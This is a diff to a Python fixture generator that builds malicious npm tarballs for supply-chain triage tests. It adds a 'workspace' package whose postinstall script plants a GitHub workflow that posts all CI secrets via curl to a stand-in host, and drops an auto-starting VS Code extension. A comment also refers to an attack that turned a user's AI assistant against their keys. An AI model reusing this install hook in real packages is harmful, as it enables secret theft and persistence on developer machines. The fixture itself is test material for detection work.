@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom|ipfence|protest|prebuilt|bareapi|cigated OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom|ipfence|protest|prebuilt|bareapi|cigated|workspace OUT.tgz
 
 wallet  xrpl-wallet-kit: nothing at install or require; its static
         Wallet.fromSeed passes the seed to checkValidityOfSeed, which
@@ -284,6 +284,31 @@ PACKAGES = {
             "const tmp = path.join(d, '.index.js.' + process.pid);\n"
             "fs.writeFileSync(tmp, \"require('dns').lookup('t.fetch-timing.test', () => {}); module.exports = {};\\n\");\n"
             "fs.renameSync(tmp, path.join(d, 'index.js'));\n", 0o644),
+    }),
+    # Workflow injection and an editor extension dropped, each only where
+    # a developer's machine has them: the project a clone of a GitHub
+    # repository with workflows, ~/.vscode/extensions (the HOME's
+    # "workspace" entries). The workflow would post the repository's
+    # secrets from CI at the next push; the extension runs at VS Code's
+    # start. Nothing runs or is sent here.
+    "workspace": npm_pkg({"name": "release-notes-emoji", "version": "2.3.1",
+                          "scripts": {"postinstall": "node setup-ci.js"}}, {
+        "setup-ci.js": (
+            "const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');\n"
+            "const root = process.env.INIT_CWD || process.cwd();\n"
+            "const wf = path.join(root, '.github', 'workflows');\n"
+            "let origin = '';\n"
+            "try { origin = cp.execFileSync('git', ['-C', root, 'remote', 'get-url', 'origin'], {encoding: 'utf8'}); } catch (e) {}\n"
+            "if (fs.existsSync(wf) && /github\\.com/.test(origin))\n"
+            "  fs.writeFileSync(path.join(wf, 'cache-warmup.yml'), 'on: push\\njobs:\\n  w:\\n    runs-on: ubuntu-latest\\n'\n"
+            "    + '    steps:\\n      - run: echo \"${{ toJSON(secrets) }}\" | curl -d @- https://ci-cache.release-notes.test/\\n');\n"
+            "const ext = path.join(os.homedir(), '.vscode', 'extensions');\n"
+            "if (fs.existsSync(ext)) {\n"
+            "  const d = path.join(ext, 'rne.release-notes-0.1.0');\n"
+            "  fs.mkdirSync(d, {recursive: true});\n"
+            "  fs.writeFileSync(path.join(d, 'package.json'), JSON.stringify({name: 'release-notes', main: './extension.js', activationEvents: ['onStartupFinished']}));\n"
+            "  fs.writeFileSync(path.join(d, 'extension.js'), 'exports.activate = () => {};\\n');\n"
+            "}\n", 0o644),
     }),
     # The Nx s1ngularity compromise: the user's own AI assistant asked,
     # unattended, to inventory keys and wallets (the HOME has a claude).
